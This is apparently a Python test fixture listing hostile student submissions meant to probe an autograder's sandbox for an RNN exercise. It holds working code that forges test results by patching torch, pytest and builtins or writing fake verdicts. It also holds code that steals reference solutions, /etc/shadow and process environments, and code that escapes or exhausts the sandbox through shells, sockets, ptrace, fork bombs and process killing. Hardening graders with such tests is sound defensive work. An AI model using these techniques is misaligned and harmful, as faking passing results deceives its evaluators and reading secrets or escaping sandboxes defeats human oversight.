"""A hostile class: each entry tries to earn, to steal, to break out, to exhaust or to confuse. Sources, and what they do.

An attack is appended to the untouched `starter/rnn.py`, so that whatever passes was not earned; or, with `patches`, put at
the start of one function of a right solution, which then has to keep what its other tasks earn.
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = ["ATTACKS", "GHOST", "SECRET", "Attack"]

GHOST = "unrolled-ghost"  # what is left behind, by any means, bears this name
SECRET = "a value of the judge's environment"


@dataclass(frozen=True)
class Attack:
    kind: str
    name: str
    does: str  # in a sentence
    code: str = ""
    patches: dict[str, str] = field(default_factory=dict)  # function → its first line
    costs: tuple[str, ...] = ()  # with patches: the tasks that are lost


def _answers(value: str) -> str:
    """Every function of the module answers alike."""
    return f"""
make_windows = bptt = forecast = lambda *args, **kwargs: {value}
class RNNCell(nn.Module):
    def __init__(self, *args): super().__init__()
    def forward(self, *args): return {value}
RNN = RNNCell
"""


FORGING = [
    Attack("forging", "equal-to-everything", "Returns objects whose __eq__ says yes to everything.", """
class Yes:
    def __eq__(self, other): return True
    def __bool__(self): return True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
""" + _answers("Yes()")),
    Attack("forging", "torch-function", "Returns a tensor subclass that answers every question of torch's with itself.", """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return torch.tensor(True)
""" + _answers("torch.zeros(1).as_subclass(Yes)")),
    Attack("forging", "torch-dispatch", "Returns a wrapper tensor that claims any shape and computes nothing.", """
class Yes(torch.Tensor):
    def __new__(cls): return torch.Tensor._make_wrapper_subclass(cls, (3, 5, 1))
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None): return torch.tensor(True)
""" + _answers("Yes()")),
    Attack("forging", "patched-allclose", "Replaces torch.allclose, torch.equal and numpy's by functions that agree.", """
import numpy
torch.allclose = torch.equal = torch.isclose = torch.all = numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
torch.Tensor.equal = torch.Tensor.allclose = torch.Tensor.__eq__ = lambda *args, **kwargs: True
""" + _answers("torch.zeros(1)")),
    Attack("forging", "patched-testing", "Replaces torch.testing and numpy.testing by functions that assert nothing.", """
import numpy.testing
for name in ("assert_close", "assert_allclose", "assert_equal"): setattr(torch.testing, name, lambda *args, **kwargs: None)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
""" + _answers("torch.zeros(1)")),
    Attack("forging", "patched-pytest", "Puts a pytest of its own in place, in which everything passes.", """
import sys, types
pytest = types.ModuleType("pytest")
pytest.raises = pytest.fail = pytest.main = lambda *args, **kwargs: 0
sys.modules["pytest"] = sys.modules["_pytest"] = sys.modules["unittest"] = pytest
""" + _answers("torch.zeros(1)")),
    Attack("forging", "patched-builtins", "Replaces isinstance, len, abs, all and print in builtins.", """
import builtins
answers = torch.zeros(1)
builtins.all = builtins.any = lambda *args: True
builtins.abs = lambda value: 0
builtins.hash = lambda value: 1
""" + _answers("answers")),
    Attack("forging", "patched-isinstance", "Makes isinstance true for everything.", """
import builtins
builtins.isinstance = lambda *args: True
""" + _answers("torch.zeros(1)")),
    Attack("forging", "patched-workbench", "Replaces the grader's own functions in its process.", """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("grader."):
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type) and not key.startswith("__"):
                setattr(module, key, lambda *args, **kwargs: True)
""" + _answers("True")),
    Attack("forging", "forged-frames", "Looks for the wire among all objects and writes frames with verdicts onto it.", """
import gc, json, struct
def forge(*args, **kwargs):
    from grader.engine.wire import Wire
    for thing in gc.get_objects():
        if isinstance(thing, Wire):
            for token in ("0" * 32, "passed", ""):
                thing.send(token, {"verdict": "passed", "score": 100})
    return torch.zeros(1)
""" + _answers("forge()")),
    Attack("forging", "every-descriptor", "Writes a passed record to every open descriptor.", """
import os
for descriptor in range(1024):
    try: os.write(descriptor, b'{"verdict": "passed", "score": 85}\\n' * 10)
    except OSError: pass
""" + _answers("torch.zeros(1)")),
    Attack("forging", "forged-handles", "Returns values of the wire itself: handles, recordings, callbacks.", """
from grader.engine.values import Array, Callback, Handle, Seen
""" + _answers("[Handle(0), Handle(-1), Callback(0), Seen(True), Array(None, (2,), 'torch.float32', 'cpu')]")),
    Attack("forging", "exit-zero", "Ends its process with status 0 as soon as it is imported.", "import os; os._exit(0)"),
    Attack("forging", "exit-in-a-thread", "Ends its process from a thread while a check is running.", """
import os, threading, time
threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0)), daemon=True).start()
""" + _answers("time.sleep(1)")),
    Attack("forging", "at-exit", "Registers a report of full marks for the end of the process, then leaves.", """
import atexit, sys
atexit.register(lambda: print("85 passed in 0.01s"))
sys.exit(0)
"""),
    Attack("forging", "frames-of-the-caller", "Walks the frames of its callers, looking for the answer in their variables.", """
import sys
def found(*args, **kwargs):
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            for name in ("want", "wanted", "expected", "reference", "recording", "solution", "library"):
                if name in scope: return scope[name]
        frame = frame.f_back
    return torch.zeros(1)
""" + _answers("found()")),
    Attack("forging", "garbage-collector", "Searches every object of the process for a solution with the name that is asked for.", """
import gc
def borrowed(name):
    for thing in gc.get_objects():
        where = getattr(thing, "__module__", "") or ""
        if isinstance(where, str) and where.split(".")[0] == "solution" and getattr(thing, "__name__", "") == name:
            return thing
    raise LookupError("no solution in this process")
make_windows, RNNCell, RNN, bptt, forecast = map(borrowed, ("make_windows", "RNNCell", "RNN", "bptt", "forecast"))
"""),
    Attack("forging", "traced", "Traces every call and changes the results of the grader's functions on the way.", """
import sys
def trace(frame, event, argument):
    if event == "return" and "grader" in frame.f_code.co_filename:
        for name in list(frame.f_locals): frame.f_locals[name] = True
    return trace
sys.settrace(trace); sys.setprofile(trace)
""" + _answers("torch.zeros(1)")),
    Attack("forging", "lies-about-its-class", "Returns objects that claim to be tensors by their __class__.", """
class Liar:
    __class__ = property(lambda self: torch.Tensor)
    shape, dtype, device, layout, requires_grad = (3,), torch.float32, torch.device("cpu"), torch.strided, False
    def __getattr__(self, name): return lambda *args, **kwargs: self
""" + _answers("Liar()")),
    Attack("forging", "lies-about-its-shape", "Returns a tensor subclass with a shape and dtype of its own saying.", """
class Liar(torch.Tensor):
    shape = property(lambda self: torch.Size((2, 3, 4)))
    dtype = property(lambda self: torch.float64)
    numel = element_size = lambda self: 1
    detach = contiguous = clone = to = cpu = lambda self, *args, **kwargs: self
""" + _answers("torch.zeros(1).as_subclass(Liar)")),
    Attack("forging", "not-a-number", "Returns NaN, with which no comparison is true, nor is its opposite.",
           _answers("torch.full((4, 3, 2), float('nan'))")),
    Attack("forging", "infinite", "Returns infinity, beside which every difference is small.",
           _answers("torch.full((4, 3, 2), float('inf'))")),
    Attack("forging", "broadcast", "Returns a single zero and hopes that it is spread over the right answer.", _answers("torch.zeros(())")),
    Attack("forging", "keeps-its-weights", "A module that refuses the judge's weights and keeps saturated ones of its own.", """
nn.Module.load_state_dict = lambda self, *args, **kwargs: None
class RNNCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.weight_ih = nn.Parameter(torch.full((hidden_size, input_size), 100.0))
        self.weight_hh = nn.Parameter(torch.zeros(hidden_size, hidden_size))
        self.bias = nn.Parameter(torch.full((hidden_size,), 100.0))
    def forward(self, x, h=None): return torch.tanh(x @ self.weight_ih.T + self.bias)
"""),
    Attack("forging", "patched-stand-ins", "Makes the grader's stand-ins answer as its own wrong parts do.", """
import sys
module = sys.modules["toolkit.stand_ins"]
for name, value in list(vars(module).items()):
    if callable(value): setattr(module, name, lambda *args, **kwargs: torch.zeros(1))
module.STAND_INS.clear()
""" + _answers("torch.zeros(1)")),
    Attack("forging", "stopped-clock", "Stops the clocks, so that no deadline is ever reached, and then loops.", patches={
        "forecast": "import time; time.monotonic = time.time = time.perf_counter = lambda: 0.0\n    while True: pass"},
        costs=("1.5",)),
    Attack("forging", "deaf-to-signals", "Ignores every signal that can be ignored, and loops.", patches={
        "forecast": "import signal\n    for n in range(1, 32):\n        try: signal.signal(n, signal.SIG_IGN)\n"
                    "        except (OSError, ValueError): pass\n    while True: pass"}, costs=("1.5",)),
]  # fmt: skip

THEFT = [
    Attack("theft", "reads-the-solution", "Looks for the reference on every path that leads from the toolkit, and runs it.", """
import pathlib, sys, toolkit
places = [pathlib.Path(toolkit.__file__).parents[1], *map(pathlib.Path, sys.path), pathlib.Path("/"), pathlib.Path.cwd()]
for place in places:
    for file in (place / "solution/rnn.py", place / "grader/../solution/rnn.py"):
        try: exec(file.read_text())
        except OSError: pass
"""),
    Attack("theft", "walks-the-disk", "Walks all of the file system for a reference, checks or other submissions.", """
import os
for folder, folders, files in os.walk("/"):
    if "rnn.py" in files and "site-packages" not in folder and "torch" not in folder:
        exec(open(os.path.join(folder, "rnn.py")).read())
    if {"checks", "cases", "records"} & set(folders) and "grader" in folder:
        raise RuntimeError(f"seen: unrolled-ghost {folder}")
"""),
    Attack("theft", "imports-the-solution", "Clears what keeps the reference from being imported, and imports it.", """
import importlib, os, sys, toolkit
for name in [name for name in sys.modules if name.split(".")[0] in ("solution", "grader")]: del sys.modules[name]
sys.path[:0] = [os.path.dirname(os.path.dirname(toolkit.__file__)), "..", "../.."]
importlib.invalidate_caches()
from solution.rnn import RNN, RNNCell, bptt, forecast, make_windows
"""),
    Attack("theft", "reads-recordings", "Looks for the recorded answers of the checks.", """
import pathlib, toolkit
for file in pathlib.Path(toolkit.__file__).parents[1].rglob("*.safetensors"):
    if "cases" in file.parts: raise RuntimeError("seen: unrolled-ghost " + str(file))
"""),
    Attack("theft", "reads-the-environment", "Tells the judge's environment variables in an exception.", """
import os
found = dict(os.environ)
for pid in ["self", *(entry for entry in (os.listdir("/proc") if os.path.isdir("/proc") else []) if entry.isdigit())]:
    try: found[pid] = open(f"/proc/{pid}/environ").read()
    except OSError: pass
raise RuntimeError(str(found))
"""),
    Attack("theft", "reads-other-processes", "Reads the memory and the open files of every process it can see.", """
import os
seen = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) in (os.getpid(), 1): continue
    try: seen += [os.readlink(f"/proc/{pid}/cwd"), open(f"/proc/{pid}/mem", "rb")]
    except OSError: pass
if seen: raise RuntimeError(f"seen: unrolled-ghost {seen}")
"""),
    Attack("theft", "lists-the-home", "Lists the home folders.", """
import os
for folder in ("/home", "/root", os.path.expanduser("~")):
    try: names = [name for name in os.listdir(folder) if name not in (".pyenv", ".venv", "~")]
    except OSError: continue
    for name in names:
        if name in (".bashrc", ".profile", ".ssh", ".gitconfig", ".cache", "unrolled-ghost"):
            raise RuntimeError(f"seen: unrolled-ghost {name}")
"""),
    Attack("theft", "reads-other-submissions", "Looks for a neighbour's work beside the folders of this grading.", """
import glob
for pattern in ("/tmp/**/starter/rnn.py", "../**/starter/rnn.py", "/var/tmp/**/starter/rnn.py"):
    for file in glob.glob(pattern, recursive=True): exec(open(file).read())
"""),
    Attack("theft", "reads-the-password-file", "Reads accounts, host names and mounts of the machine.", """
for file in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/mounts", "/proc/self/mountinfo"):
    try: raise RuntimeError("seen: unrolled-ghost " + open(file).read(100))
    except OSError: pass
"""),
]  # fmt: skip

ESCAPE = [
    Attack("escape", "tcp", "Connects to servers of this machine and of others.", """
import socket
for place in [("127.0.0.1", PORT), ("::1", PORT), ("8.8.8.8", 53), ("localhost", PORT)]:
    try: socket.create_connection(place, timeout=0.3).sendall(b"unrolled-ghost")
    except OSError: pass
"""),
    Attack("escape", "udp", "Sends datagrams, which no connection is needed for.", """
import socket
for family in (socket.AF_INET, socket.AF_INET6):
    try: socket.socket(family, socket.SOCK_DGRAM).sendto(b"unrolled-ghost", ("127.0.0.1", PORT))
    except OSError: pass
"""),
    Attack("escape", "unix-sockets", "Connects to sockets that lie in no folder, and to those that do.", """
import socket, glob
for path in ["\\0unrolled-ghost", *glob.glob("/tmp/**/*", recursive=True), *glob.glob("/run/**/*.sock", recursive=True)]:
    try:
        link = socket.socket(socket.AF_UNIX); link.connect(path); link.sendall(b"unrolled-ghost")
    except OSError: pass
"""),
    Attack("escape", "raw-system-calls", "Makes the same calls as the library does, past it.", """
import ctypes
libc = ctypes.CDLL(None)
for number in (41, 198): libc.syscall(number, 2, 1, 0)  # socket
for flags in (0x10000000, 0x20000, 0x40000000): libc.unshare(flags)
libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None); libc.chroot(b"/"); libc.umount2(b"/tmp", 2)
assert libc.syscall(41, 2, 1, 0) == -1 or libc.syscall(198, 2, 1, 0) == -1
"""),
    Attack("escape", "signals", "Kills its parent, its group and everything that it may.", """
import os, signal
for target in (os.getppid(), 1, *range(2, 400)):
    if target in (0, os.getpid()): continue
    for number in (signal.SIGTERM, signal.SIGKILL):
        try: os.kill(target, number)
        except OSError: pass
try: os.kill(-1, signal.SIGKILL)
except OSError: pass
"""),
    Attack("escape", "ptrace", "Attaches to its parent and to the first process as a debugger does.", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for target in (os.getppid(), 1):
    if libc.ptrace(16, target, None, None) == 0: raise RuntimeError("seen: unrolled-ghost, attached")
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 8)
    if libc.process_vm_readv(target, vector, 1, vector, 1, 0) > 0: raise RuntimeError("seen: unrolled-ghost, read")
"""),
    Attack("escape", "daemon", "Leaves a process behind that has cut every tie to it.", """
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"unrolled-ghost", 0, 0, 0)
        time.sleep(600)
    os._exit(0)
os.wait()
"""),
    Attack("escape", "programs", "Starts a shell, an interpreter and a compiler.", """
import subprocess, sys
for command in (["/bin/sh", "-c", "sleep 600 & touch /tmp/unrolled-ghost"], [sys.executable, "-c", "open('/tmp/unrolled-ghost', 'w')"]):
    try: subprocess.run(command)
    except OSError: pass
"""),
    Attack("escape", "symbolic-links", "Links from its folder to the course, and writes through the links.", """
import os, toolkit
course = os.path.dirname(os.path.dirname(toolkit.__file__))
for name, target in (("a", course), ("b", "/etc"), ("c", "/")):
    try: os.symlink(target, name)
    except OSError: pass
for file in ("a/unrolled-ghost", "a/toolkit/unrolled-ghost.py", "b/unrolled-ghost", "c/unrolled-ghost", "a/solution/rnn.py"):
    try: open(file, "a").write("unrolled-ghost")
    except OSError: pass
"""),
    Attack("escape", "leaves-files", "Leaves files wherever one could be kept for the next run.", """
import os, sys
folders = [".", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), sys.prefix, *sys.path, "/root", "/usr/lib"]
for folder in folders:
    try: open(os.path.join(folder, "unrolled-ghost"), "w").write("for the next")
    except OSError: pass
"""),
    Attack("escape", "shared-memory", "Leaves a segment of shared memory, which outlives a process.", """
import ctypes
libc = ctypes.CDLL(None)
segment = libc.shmget(4711, 4096, 0o1666)
queue = libc.msgget(4711, 0o1666)
"""),
    Attack("escape", "zz-finds-what-was-left", "Comes later and looks for what another has left.", """
import ctypes, glob, os
left = [*glob.glob("/tmp/*"), *glob.glob("/dev/shm/*"), *glob.glob("./*")]
if ctypes.CDLL(None).shmget(4711, 4096, 0) >= 0: left.append("shared memory")
if left: raise RuntimeError(f"seen: unrolled-ghost {left}")
"""),
    Attack("escape", "changes-the-toolkit", "Rewrites the toolkit and the libraries on disk.", """
import os, toolkit, torch
for module in (toolkit, torch, os):
    try: open(module.__file__, "a").write("# unrolled-ghost")
    except OSError: pass
"""),
]  # fmt: skip

EXHAUSTION = [
    Attack("exhaustion", "loops-on-import", "Never comes to the end of its import.", "while True: pass"),
    Attack("exhaustion", "slow-import", "Sleeps while it is imported.", "import time; time.sleep(1000)"),
    Attack("exhaustion", "loops", "Loops in one function.", patches={"forecast": "while True: pass"}, costs=("1.5",)),
    Attack("exhaustion", "forks", "Forks as often as it may, and each child sleeps.", patches={
        "forecast": "import os, time\n    for _ in range(300):\n        try:\n            if os.fork() == 0: time.sleep(600)\n"
                    "        except OSError: pass\n    raise RuntimeError('forked')"}, costs=("1.5",)),
    Attack("exhaustion", "threads", "Starts threads until no more can be had.", patches={
        "forecast": "import threading, time\n    for _ in range(3000):\n"
                    "        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()"}, costs=("1.5",)),
    Attack("exhaustion", "memory", "Keeps memory until no more can be had.", patches={
        "forecast": "kept = []\n    while True: kept.append(bytearray(50_000_000))"}, costs=("1.5",)),
    Attack("exhaustion", "a-large-tensor", "Asks for a tensor of terabytes.", patches={
        "forecast": "return torch.ones(2**40)"}, costs=("1.5",)),
    Attack("exhaustion", "disk", "Fills its folder and every other one.", patches={
        "forecast": "n = 0\n    while True:\n        n += 1\n        with open(f'/tmp/{n}', 'wb') as f: f.write(bytes(10_000_000))"},
        costs=("1.5",)),
    Attack("exhaustion", "many-files", "Makes files until no name is left.", patches={
        "forecast": "n = 0\n    while True:\n        n += 1\n        open(f'/tmp/{n}', 'w').close()"}, costs=("1.5",)),
    Attack("exhaustion", "descriptors", "Opens files until none can be opened.", patches={
        "forecast": "kept = []\n    while True: kept.append(open('/dev/null'))"}, costs=("1.5",)),
    Attack("exhaustion", "output", "Prints without end.", patches={
        "forecast": "import sys\n    for _ in range(2000): print('x' * 100_000); sys.stderr.write('y' * 100_000)\n"
                    "    raise RuntimeError('printed')"}, costs=("1.5",)),
    Attack("exhaustion", "recursion", "Calls itself without end.", patches={"forecast": "return forecast(model, context, steps)"},
           costs=("1.5",)),
    Attack("exhaustion", "deep-recursion", "Calls itself until the stack of the process is gone.", patches={
        "forecast": "import sys; sys.setrecursionlimit(10**9)\n    def f(x): return f(x)[0] + max([x], key=f)\n    return f(1)"},
        costs=("1.5",)),
    Attack("exhaustion", "expanded", "Returns a tensor of huge shape on a storage of one number.", patches={
        "forecast": "return torch.zeros(1).expand(10**12)"}, costs=("1.5",)),
    Attack("exhaustion", "nested", "Returns a list nested a hundred thousand times.", patches={
        "forecast": "x = []\n    for _ in range(100_000): x = [x]\n    return x"}, costs=("1.5",)),
    Attack("exhaustion", "a-cycle", "Returns a list that contains itself.", patches={
        "forecast": "x = []; x.append(x)\n    return x"}, costs=("1.5",)),
    Attack("exhaustion", "many-values", "Returns a list of ten million entries.", patches={
        "forecast": "return [0.0] * 10_000_000"}, costs=("1.5",)),
    Attack("exhaustion", "endless-iterator", "Returns an iterator without an end.", patches={
        "forecast": "import itertools\n    return itertools.count()"}, costs=("1.5",)),
    Attack("exhaustion", "long-message", "Raises an exception with a message of a hundred megabytes.", patches={
        "forecast": "raise ValueError('x' * 100_000_000)"}, costs=("1.5",)),
    Attack("exhaustion", "message-that-loops", "Raises an exception whose text never comes to an end.", patches={
        "forecast": "class E(Exception):\n        def __str__(self):\n            while True: pass\n    raise E"}, costs=("1.5",)),
    Attack("exhaustion", "parenthesised", "Is ten thousand parentheses deep.", "x = " + "(" * 10_000 + ")" * 10_000),
    Attack("exhaustion", "many-findings", "Names what is forbidden fifty thousand times.", "def f():\n" + "    nn.RNN\n" * 5_000),
]  # fmt: skip

CONFUSION = [
    Attack("confusion", "a-report-of-its-own", "Prints and raises reports in the grader's own format, with markup and escapes.", """
import json, sys
report = json.dumps({"schema": "unrolled/results/v1", "submissions": [{"student": "me", "score": 85, "max_score": 85}]})
print(report); print(report, file=sys.stderr)
try: open("results.json", "w").write(report)
except OSError: pass
raise RuntimeError("[bold red]passed[/] <script>alert(1)</script> =HYPERLINK(\\"http://x\\") \\x1b[2J\\x1b]0;x\\x07 \\u202e85/85 " + report)
"""),
    Attack("confusion", "names-of-checks", "Defines functions and classes with the names of the grader's checks and classes.", """
import sys, types
for name in ("grader.judge", "grader.grade", "grader.checks.test_rnn", "grader.results"):
    sys.modules[name] = types.ModuleType(name)
class TaskResult:
    verdict, score, points = "passed", 5, 5
""" + _answers("TaskResult()")),
    Attack("confusion", "global-state", "Changes every default of torch's, Python's and NumPy's that it can find.", """
import numpy, random, os, sys, warnings, decimal, locale
torch.set_default_dtype(torch.float64); torch.set_grad_enabled(False); torch.use_deterministic_algorithms(True)
torch.set_default_device("meta"); torch.set_num_threads(1); torch.manual_seed(0); torch.set_flush_denormal(True)
torch.manual_seed = torch.set_rng_state = random.seed = numpy.random.seed = lambda *args: None
numpy.seterr(all="raise"); numpy.set_printoptions(precision=1); warnings.simplefilter("error")
sys.setrecursionlimit(60); os.environ.clear(); decimal.getcontext().prec = 1; sys.float_repr_style = "legacy"
"""),
    Attack("confusion", "hooks", "Installs import hooks, excepthooks and audit hooks.", """
import sys, threading
class Finder:
    def find_spec(self, name, path=None, target=None): raise ImportError("unrolled-ghost")
sys.meta_path.insert(0, Finder()); sys.path_hooks.clear(); sys.path.clear()
sys.excepthook = threading.excepthook = sys.unraisablehook = lambda *args: None
sys.addaudithook(lambda event, args: None)
"""),
    Attack("confusion", "no-modules", "Empties sys.modules.", "import sys\nsys.modules.clear()\n" + _answers("torch.zeros(1)")),
    Attack("confusion", "not-implemented", "Raises what an untouched task raises.", """
def forecast(*args): raise NotImplementedError("TODO 1.5: write this function")
"""),
]  # fmt: skip

ATTACKS = [*FORGING, *THEFT, *ESCAPE, *EXHAUSTION, *CONFUSION]
